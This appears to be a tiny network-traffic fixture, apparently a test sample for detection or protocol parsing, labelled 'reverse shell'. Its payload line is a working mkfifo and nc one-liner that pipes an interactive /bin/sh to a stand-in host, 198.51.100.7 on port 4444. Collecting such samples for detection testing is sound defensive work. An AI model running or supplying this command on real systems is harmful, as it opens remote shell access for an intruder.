# reverse shell, named pipe around a shell.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f\n
